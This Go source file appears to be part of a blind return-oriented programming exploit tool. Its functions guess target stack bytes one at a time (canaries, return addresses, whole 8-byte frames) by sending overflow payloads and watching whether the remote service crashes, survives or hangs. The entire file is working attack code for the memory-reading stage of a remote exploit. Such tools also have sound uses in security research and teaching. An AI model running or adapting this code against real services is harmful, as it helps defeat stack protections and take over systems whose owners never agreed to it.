package oracle

import (
	"github.com/voidspace-sec/brop/internal/cluster"
	"github.com/voidspace-sec/brop/internal/transport"
)

// ReadByte guesses the single stack byte that follows payload, trying
// every candidate 0x00..0xFF. NoCrash means the guess matched (or was at
// least consistent with) what the stack already held there. ok is false
// on an unrecoverable transport failure or if no byte in 0..255 succeeds.
// infinite is true when a guess produced Infinite instead: byte then
// holds that candidate, and the caller can resume the search past it
// with ReadByteFrom(byte+1, ...) exactly as find_possible_return_address
// does in the original client.
func ReadByte(t transport.Transport, payload []byte) (b byte, infinite bool, ok bool) {
	return ReadByteFrom(t, 0, payload)
}

// ReadByteFrom is ReadByte starting the search at start instead of 0.
func ReadByteFrom(t transport.Transport, start byte, payload []byte) (b byte, infinite bool, ok bool) {
	guess := byte(start)
	for {
		trial := append(append([]byte(nil), payload...), guess)
		rc, _, probeOK := Probe(t, trial)
		if !probeOK {
			return 0, false, false
		}
		switch rc {
		case NoCrash:
			return guess, false, true
		case Crash:
			if guess == 0xFF {
				return 0, false, false
			}
			guess++
		case Infinite:
			return guess, true, true
		}
	}
}

// ReadWord recovers len bytes one at a time, appending each recovered
// byte to the working payload before guessing the next. If any byte
// recovery surfaces Infinite, that sticky flag is remembered and the
// partial word is returned via the infinite return value (spec.md §4.2);
// ok is false on an unrecoverable transport failure or when no candidate
// in 0..255 avoids a crash for some byte.
func ReadWord(t transport.Transport, payload []byte, length int) (word cluster.Word, infinite bool, ok bool) {
	working := append([]byte(nil), payload...)
	out := make(cluster.Word, 0, length)
	sawInfinite := false

	for i := 0; i < length; i++ {
		b, inf, readOK := ReadByte(t, working)
		if !readOK {
			return nil, false, false
		}
		if inf {
			sawInfinite = true
		}
		out = append(out, b)
		working = append(working, b)
	}

	return out, sawInfinite, true
}

// ReadFrame is the 8-byte specialization of ReadWord.
func ReadFrame(t transport.Transport, payload []byte) (f cluster.Frame, infinite bool, ok bool) {
	word, inf, readOK := ReadWord(t, payload, 8)
	if !readOK {
		return cluster.Frame{}, false, false
	}
	return cluster.FrameFromBytes(word), inf, true
}
